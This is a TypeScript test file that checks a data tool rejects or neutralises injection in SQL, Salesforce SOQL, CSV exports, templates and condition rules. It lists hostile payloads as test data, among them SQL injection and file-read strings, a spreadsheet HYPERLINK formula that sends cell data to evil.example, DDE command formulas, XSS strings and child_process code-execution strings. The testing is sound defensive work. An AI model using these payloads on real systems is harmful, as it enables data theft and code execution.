// S6 to S10: text that wants to be more than text. Names, values and templates of strangers in SQL, SOQL, search questions,
// spreadsheets, CRM texts and conditions.

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseQuery } from '@jetstreamapp/soql-parser-js';
import Database from 'better-sqlite3';
import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { mysqlWriting } from '../../src/clients/mysql.ts';
import { postgresWriting } from '../../src/clients/postgres.ts';
import { inQueries, isSoqlName, soqlName, soqlText } from '../../src/clients/salesforce/soql.ts';
import { bindNames, quoteName } from '../../src/clients/sql.ts';
import { askSqlite, sqliteWriting } from '../../src/clients/sqlite.ts';
import { Condition as ConditionSchema } from '../../src/config/schema/condition.ts';
import { fromHtml, toHtml } from '../../src/crm/hubspot/convert.ts';
import { compile } from '../../src/domain/condition.ts';
import type { Condition } from '../../src/domain/decisions.ts';
import { checkTemplate, compileText, plainText } from '../../src/domain/words.ts';
import { csvCell, csvLine } from '../../src/lib/csv-text.ts';
import { KenkoError } from '../../src/lib/errors.ts';
import { openCsvSource } from '../../src/sources/csv.ts';
import { readAll } from '../sources/contract.ts';
import { sourceSettings } from '../sources/settings.ts';

const folder = mkdtempSync(join(tmpdir(), 'kenko-injection-'));
const file = join(folder, 'rows.db');
afterAll(() => rmSync(folder, { recursive: true, force: true }));

// Whatever a test below does: nothing has been hung onto every object.
const before = Object.getOwnPropertyNames(Object.prototype).sort().join();
afterEach(() => {
  expect(Object.getOwnPropertyNames(Object.prototype).sort().join()).toBe(before);
  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
});

describe('S6 SQL', () => {
  beforeAll(() => {
    const db = new Database(file);
    db.exec(`CREATE TABLE usage (key TEXT, value TEXT); INSERT INTO usage VALUES ('a', '1'), ('b', '2')`);
    db.close();
  });
  const ask = async (sql: string, values: Record<string, string> = {}) => {
    const rows: unknown[] = [];
    const question = { sql, values, timeoutMs: 2_000, rowsAtOnce: 10, where: 'source usage' };
    for await (const page of askSqlite(file, question, new AbortController().signal)) rows.push(...page.rows);
    return rows;
  };
  const dialects = { sqliteWriting, postgresWriting, mysqlWriting };

  it.each([
    'DELETE FROM usage',
    "UPDATE usage SET value = '9'",
    'DROP TABLE usage',
    'INSERT INTO usage VALUES (1, 2)',
    "ATTACH DATABASE '/tmp/x.db' AS x",
    'PRAGMA writable_schema = ON',
    "VACUUM INTO '/tmp/stolen.db'",
    'SELECT 1; DELETE FROM usage',
    'SELECT 1;\n--\nDROP TABLE usage',
    'WITH x AS (SELECT 1) DELETE FROM usage',
    "SELECT load_extension('/tmp/evil.so')",
    "SELECT writefile('/tmp/x', 'y')",
    "SELECT readfile('/etc/passwd')",
    '/* SELECT */ DROP TABLE usage',
    'EXPLAIN DELETE FROM usage',
    'BEGIN; SELECT 1',
    '',
  ])('S6 %j is refused before the file or by it, and nothing has changed', async (sql) => {
    await expect(ask(sql)).rejects.toBeInstanceOf(KenkoError);
    expect(await ask('SELECT count(*) AS n FROM usage')).toEqual([{ n: 2 }]);
  });

  it.each(Object.entries(dialects))('S6 a second statement is refused in every dialect (%s)', (_name, writing) => {
    for (const sql of ['SELECT 1; SELECT 2', 'SELECT 1 ; DROP TABLE x', "SELECT ';'; DELETE FROM x"])
      expect(() => bindNames(sql, {}, 'source s', writing)).toThrow(KenkoError);
    expect(() => bindNames("SELECT ';' AS a -- ; \n", {}, 'source s', writing)).not.toThrow();
  });

  it('S6 values are bound: whatever they are, they are compared and never run', async () => {
    const hostile = ["a' OR '1'='1", "'; DROP TABLE usage; --", 'a\\', ':since', '$1', '%', 'a\u0000b', "a'/*"];
    for (const value of hostile)
      expect(await ask('SELECT key FROM usage WHERE key = :since', { since: value })).toEqual([]);
    expect(await ask('SELECT key FROM usage WHERE key = :since', { since: 'a' })).toEqual([{ key: 'a' }]);
  });

  it('S6 a value never becomes text of the statement', () => {
    for (const writing of Object.values(dialects))
      fc.assert(
        fc.property(fc.string({ minLength: 4 }), (value) => {
          const secret = `Q${value}Q`;
          const { text, values } = bindNames('SELECT * FROM t WHERE at > :since', { since: secret }, 's', writing);
          expect(text).not.toContain(secret);
          expect(values).toEqual([secret]);
        }),
        { numRuns: 50 },
      );
  });

  it.each([
    'a"b',
    'a`b',
    'a;b',
    'a b',
    "a'b",
    '',
    '1a',
    'a-b',
    'a)--',
    'a\u0000',
    'é',
    'a'.repeat(64),
    'a.b',
    '"; DROP TABLE x; --',
  ])('S6 %j is no name of a column', (name) => {
    expect(() => quoteName(name)).toThrow(KenkoError);
  });
});

describe('S7 SOQL', () => {
  const hostile = [
    "\\' OR Name != '",
    "'",
    '\\',
    "\\\\'",
    "a' OR Name LIKE '%",
    'x\n\r\t\b\f',
    "') OR (Id != '",
    '\u2028',
    '{!name}',
    '%00',
  ];

  // A string of SOQL by Salesforce's own grammar (SOQL and SOSL Reference, Quoted String Escape Sequences).
  const literal = /^'(?:\\[nrtbf"'\\]|[^'\\\n\r])*'$/;
  const read = (text: string) =>
    text
      .slice(1, -1)
      .replaceAll(/\\(.)/g, (_whole, one: string) => ({ n: '\n', r: '\r', t: '\t', b: '\b', f: '\f' })[one] ?? one);
  it('S7 a value is one string, and the string says the value', () => {
    for (const value of hostile) {
      expect(soqlText(value), value).toMatch(literal);
      expect(read(soqlText(value))).toBe(value);
    }
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom("'", '\\', ')', '(', ' OR ', 'x', '\n', '--', '"', '\u2028'), { maxLength: 8 }),
        (parts) => {
          expect(soqlText(parts.join(''))).toMatch(literal);
          expect(read(soqlText(parts.join('')))).toBe(parts.join(''));
        },
      ),
      { numRuns: 300 },
    );
    // Escaping the quote alone, as the vendor's client does, is what this is about.
    expect(`'${"\\' OR Name != '".replaceAll("'", "\\'")}'`).not.toMatch(literal);
  });

  it('S7 to a parser that others made the query keeps its shape', () => {
    const shapeOf = (value: string) => {
      const query = parseQuery(`SELECT Id FROM Account WHERE Name = ${soqlText(value)} LIMIT 1`);
      return JSON.stringify({ ...query, where: { ...query.where, left: { ...query.where?.left, value: '' } } });
    };

    for (const value of ["\\' OR Name != '", "'", "a' OR Name LIKE '%", "') OR (Id != '", '{!name}'])
      expect(shapeOf(value), value).toBe(shapeOf('plain'));
  });

  it('S7 a list of values stays a list', () => {
    const [query = ''] = inQueries('SELECT Id FROM Account WHERE Name IN (', hostile);
    const list = /\((.*)\)$/s.exec(query)?.[1] ?? '';

    expect([...list.matchAll(/'(?:\\.|[^'\\])*'/g)].map(([one]) => read(one))).toEqual(hostile);
  });

  it.each([
    'Name FROM User--',
    'Id, Owner.Email',
    "Name' ",
    '',
    'a b',
    '__proto__',
    'constructor()',
    '名前',
    'Name;',
    'A.B.C.D.E.F.G',
  ])('S7 %j never stands in a query as a name', (name) => {
    expect(isSoqlName(name)).toBe(false);
    expect(() => soqlName(name)).toThrow();
  });
});

describe('S8 spreadsheets', () => {
  const formulas = [
    '=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    ' =1+1',
    '|calc',
    '%0A=1',
  ];

  it.each(formulas)('S8 %j becomes text in an export, and is read back as text', (value) => {
    const [row = []] = parseCsv(csvLine(['first', value, 'last'])) as string[][];

    expect(row).toHaveLength(3);
    expect(row[1]).toBe(`'${value}`);
    expect([row[0], row[2]]).toEqual(['first', 'last']);
  });

  it('S8 no text begins as a formula, and any text is one cell and comes back', () => {
    fc.assert(
      fc.property(fc.array(fc.string(), { minLength: 1, maxLength: 4 }), (values) => {
        const [row] = parseCsv(csvLine(['x', ...values]), { relax_column_count: true }) as string[][];
        expect(row?.slice(1)).toEqual(
          values.map((value) =>
            row?.[values.indexOf(value) + 1]?.startsWith("'") === true && !value.startsWith("'") ? `'${value}` : value,
          ),
        );
        for (const cell of row ?? []) expect(cell).not.toMatch(/^\s*[=@]/);
      }),
      { numRuns: 300 },
    );
    for (const number of ['-6', '+3.5', '12', '-0.25']) expect(csvCell(number)).toBe(number);
  });

  it.each(formulas.filter((value) => /^[=+\-@]/.test(value)))(
    'S8 %j as a name is no formula at the beginning of a text in the CRM either',
    (name) => {
      expect(compileText('{{name}} needs a call')({ name })).toMatch(/^'/);
      expect(compileText('{{ name | upcase }}')({ name })).toMatch(/^'/);
      expect(compileText('Call {{name}}')({ name })).not.toMatch(/^'/);
    },
  );
  it('S8 a number with its sign, and what the admin wrote, stay as they are', () => {
    expect(compileText('{{change}} points since Monday')({ change: -6.5 })).toBe('-6.5 points since Monday');
    expect(compileText('- {{name}}')({ name: 'x' })).toBe('- x');
  });

  it('S8 any bytes as a CSV file end in rows, refused rows or an error of ours', async () => {
    const nasty = [
      'key,day,value\n"a',
      'key,day,value\na\u0000,2026-01-01,1\n',
      `key,day,value\n${'x'.repeat(2_000_000)}\n`,
      '\ufeffkey,day,value\r\na,2026-01-01,=1+1\r\n',
      'key;day;value\n',
      '',
      '\n\n\n',
      'key,key,key\na,b,c',
    ];
    const read = async (bytes: string | Uint8Array) => {
      writeFileSync(join(folder, 'rows.csv'), bytes);
      await readAll(openCsvSource(sourceSettings('csv', { path: 'rows.csv' }), folder)).catch((error: unknown) => {
        expect(error).toBeInstanceOf(KenkoError);
      });
    };
    for (const text of nasty) await read(text);
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 60 }), async (bytes) => {
        await read(Buffer.concat([Buffer.from('key,day,value\n'), bytes]));
      }),
      { numRuns: 60 },
    );
  });
});

describe('S9 templates', () => {
  it.each(['{{constructor}}', '{{__proto__}}', '{{toString}}', '{{hasOwnProperty}}', '{{valueOf}}'])(
    'S9 %s is a name like any other, and nobody has it',
    (text) => {
      expect(compileText(text)({ name: 'x' })).toBe('–');
    },
  );
  it.each([
    '{{constructor.constructor}}',
    '{{name.constructor.name}}',
    '{{__proto__.polluted}}',
    '{{name["constructor"]}}',
    '{{account.__proto__.x}}',
    "{% include '/etc/passwd' %}",
    "{% render 'x' %}",
    "{% layout 'x' %}",
    '{% for i in (1..1000000000) %}x{% endfor %}',
    '{% tablerow i in x %}{% endtablerow %}',
    '{% liquid echo 1 %}',
    '{{ name | map: "constructor" }}',
    '{{ name | where_exp: "x", "1" }}',
    '{{ "x" | raw }}',
    '{{ name | json }}',
    '{{ "now" | date: "%s" }}',
    '{{',
    '{% if %}',
    '{{name | nosuch}}',
  ])('S9 %s is refused when the files are read', (text) => {
    expect(checkTemplate(text)).toHaveProperty('problem');
    expect(() => compileText(text)).toThrow();
  });
  it('S9 bombs end at their limits', () => {
    expect(() =>
      compileText('{% assign a = "xxxxxxxxxx" %}'.concat('{% assign a = a | append: a %}'.repeat(40), '{{a}}'))({}),
    ).toThrow();
    expect(checkTemplate('{{name}}'.repeat(10_000))).toHaveProperty('problem');
  });
  it.each([
    ['a tag', '<script>alert(1)</script>'],
    ['an image', '<img src=x onerror=alert(1)>'],
    ['a template', '{{name}} {% if 1 %}'],
    ['a link', '[x](javascript:alert(1))'],
  ])('S9 %s in a name is text: shown as it is, and escaped where the CRM reads HTML', (_what, name) => {
    const text = compileText('Call {{name}} today')({ name });

    expect(text).toBe(`Call ${name} today`);
    expect(toHtml(text)).not.toMatch(/<(?!br|\/?p|\/?div)[a-z]/i);
    expect(fromHtml(toHtml(text))).toBe(text);
  });
  it('S9 control and direction characters of values never get through', () => {
    const hostile = 'a\u202eb\u2066c\u200fd\u0000e\u001bf\ufeffg\r\nh\u2028i';

    expect(compileText('{{name}}')({ name: hostile })).toBe('abcdefg h i');
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (name) => {
        expect(plainText(name)).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/);
      }),
    );
  });
});

describe('S10 conditions', () => {
  const words = [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '__defineGetter__',
    '__lookupSetter__',
    'valueOf',
    'isPrototypeOf',
    'toLocaleString',
  ];
  const code = [
    'process.exit(1)',
    'require("child_process").execSync("id")',
    'this.constructor.constructor("return process")()',
    '(() => { throw 1 })()',
    '${process.env.HOME}',
    '`id`',
    '$(id)',
    '[].filter.constructor("alert(1)")()',
    'a => a',
    'new Function("return 1")()',
    'import("node:fs")',
    '@.constructor',
    '$..[?(@.constructor)]',
    'x[__proto__][polluted]',
    "'; DROP TABLE x; --",
  ];
  const payloads: readonly unknown[] = [
    ...words.map((word) => ({ [word]: { above: 1 } })),
    ...words.map((word) => JSON.parse(`{"score": {"${word}": 1}}`) as unknown),
    ...words.map((word) => JSON.parse(`{"${word}": {"polluted": true}}`) as unknown),
    ...code.map((text) => ({ [text]: { above: 1 } })),
    ...code.map((text) => ({ score: { [text]: 1 } })),
    ...code.map((text) => text),
    ...code.map((text) => ({ score: { above: text } })),
    ...code.map((text) => ({ all: text })),
    ...[
      null,
      1,
      true,
      [],
      [[]],
      {},
      { all: {} },
      { all: [null] },
      { not: [] },
      { any: [{ all: [1] }] },
      { score: null },
      { score: [] },
      { score: {} },
      { score: { above: {} } },
      { score: { in: 'x' } },
    ],
  ];

  it('S10 a corpus of code, prototypes and nonsense is refused or compared as text; nothing of it runs', () => {
    let refused = 0;
    for (const payload of payloads) {
      const read = ConditionSchema.safeParse(payload);
      if (!read.success) refused += 1;
      else
        for (const facts of [{}, { score: 1, name: 'x' }])
          expect(['yes', 'no', 'unknown']).toContain(compile(asCondition(read.data)).answer(facts));
    }
    expect(payloads.length).toBeGreaterThanOrEqual(100);
    expect(refused).toBeGreaterThan(50);
  });

  it('S10 a fact that every object has is unknown', () => {
    for (const fact of words) {
      const is = (operator: 'above' | 'is' | 'missing', value: number | string | boolean) =>
        compile({ fact, operator, value } as Condition).answer({ score: 1 });

      expect([is('above', 0), is('is', 'x'), is('missing', true)], fact).toEqual(['unknown', 'unknown', 'yes']);
    }
  });

  it('S10 any tree of operators ends in an answer, whatever the facts are', () => {
    const value = fc.oneof(
      fc.string(),
      fc.double(),
      fc.boolean(),
      fc.constant(null),
      fc.constantFrom(...words, ...code),
    );
    const leaf = fc.record({
      fact: fc.oneof(fc.string(), fc.constantFrom(...words)),
      operator: fc.constantFrom(
        'above',
        'below',
        'at_least',
        'at_most',
        'is',
        'is_not',
        'one_of',
        'between',
        'missing',
        'contains',
      ),
      value: fc.oneof(value, fc.array(value, { maxLength: 3 })),
    });
    const { tree } = fc.letrec((tie) => ({
      tree: fc.oneof(
        { maxDepth: 4 },
        leaf,
        fc.record({ all: fc.array(tie('tree'), { maxLength: 3 }) }),
        fc.record({ any: fc.array(tie('tree'), { maxLength: 3 }) }),
        fc.record({ not: tie('tree') }),
      ),
    }));
    fc.assert(
      fc.property(tree, fc.dictionary(fc.oneof(fc.string(), fc.constantFrom(...words)), value), (condition, facts) => {
        const answer = compile(condition as Condition).answer(facts as never);
        expect(['yes', 'no', 'unknown']).toContain(answer);
      }),
      { numRuns: 500 },
    );
  });
});

/** What the files say, as the domain wants it; shapes that need a vocabulary are looked at by the rules. */
function asCondition(read: unknown): Condition {
  return typeof read === 'object' &&
    read !== null &&
    ('all' in read || 'any' in read || 'not' in read || 'fact' in read)
    ? (read as Condition)
    : ({ all: [] } as Condition);
}
